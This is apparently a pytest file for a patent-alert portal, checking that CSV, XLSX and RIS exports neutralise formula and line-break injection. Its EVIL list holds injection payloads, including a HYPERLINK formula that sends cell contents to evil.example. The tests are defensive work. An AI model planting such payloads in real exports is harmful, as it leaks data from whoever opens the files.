"""Exports are read by the programs that people open them with: strangers' texts neither run nor break a line."""

import csv
import io
from dataclasses import fields, replace
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from services.portal.desk.inbox_files import COLUMNS, FORMULA_STARTS, Line, as_csv, as_ris, as_xlsx
from services.portal.desk.inbox_rows import Row, grouped
from shared.filing.follow_ups import FollowUp, Note
from shared.filing.marks import Mark, Verdict
from shared.wire.publication import Applicant, Publication
from tests.contract.made import NOW, alert, why

ZONE = ZoneInfo("Asia/Shanghai")
EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
    "  =1+1", '"=1+1', "a\nER  - \nTY  - JOUR", 'a,b;c"d',
)  # fmt: skip


def row(text: str) -> Row:
    publication = Publication(
        publication_number="CN1A",
        kind="A",
        title=text,
        abstract=text,
        published_on=date(2026, 1, 5),
        applicants=(Applicant(name=text),),
        inventors=("王一", "李二"),
        ipc=("H01M10/0562", "H01M4/58"),
    )
    note = Note(id="n", account_id="a-1", text=text, made_at=NOW)
    return replace(
        grouped([alert("CN1A", why())])[0],
        publication=publication,
        follow_up=FollowUp(
            id="f", organisation_id="o", publication_number="CN1A", assigned_to="a-1", notes=(note,), changed_at=NOW
        ),
        marks=(
            Mark(
                id="m", organisation_id="o", profile_id="p-1", publication_number="CN1A", verdict=Verdict.RELEVANT,
                account_id="a-1", made_at=NOW,
            ),
        ),
    )  # fmt: skip


def line(text: str) -> Line:
    return Line.of(row(text), {"a-1": text[:20]}, ZONE)


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_of_a_csv_begins_as_a_formula_and_each_publication_is_one_record(text: str) -> None:
    records = list(csv.reader(io.StringIO(as_csv([line(text), line("正常")], NOW).decode("utf-8-sig"))))
    assert len(records) == 3
    assert {len(record) for record in records} == {len(COLUMNS)}
    assert not [cell for record in records for cell in record if cell.lstrip().startswith(FORMULA_STARTS)]
    assert not [cell for record in records for cell in record if cell != cell.strip() or "\n" in cell]


@pytest.mark.parametrize("text", EVIL)
def test_every_cell_of_a_workbook_is_a_text(text: str) -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(as_xlsx([line(text)], NOW)))
    heading, cells = book.get_sheet_by_index(0).to_python()
    assert heading == [name for name, _ in COLUMNS.values()]
    assert cells[:2] == ["CN1A", " ".join(text.split())]
    assert {type(cell) for cell in cells} == {str}


@pytest.mark.parametrize("text", EVIL)
def test_a_reference_has_only_the_tags_that_are_ours(text: str) -> None:
    lines = as_ris([line(text)], NOW).decode().split("\r\n")
    assert [one[:2] for one in lines if one] == [
        "TY", "TI", "AU", "AU", "A2", "M1", "PY", "DA", "AB", "KW", "KW", "N1", "LA", "ER",
    ]  # fmt: skip
    assert lines[0] == "TY  - PAT"


def test_a_line_says_what_members_made_of_it() -> None:
    said = line("固态电池")
    assert (said.verdict, said.assigned_to, said.notes) == ("相关", "固态电池", "固态电池：固态电池")
    assert said.told_at == f"{NOW.astimezone(ZONE):%Y-%m-%d %H:%M}"
    assert "画像“固态电池”" in said.why


def test_the_columns_are_the_fields_of_a_line_in_their_order() -> None:
    assert [field.name for field in fields(Line)] == list(COLUMNS)


def test_the_same_lines_are_the_same_bytes() -> None:
    at = datetime(2026, 1, 5, tzinfo=UTC)
    assert as_xlsx([line("电池")], at) == as_xlsx([line("电池")], at)
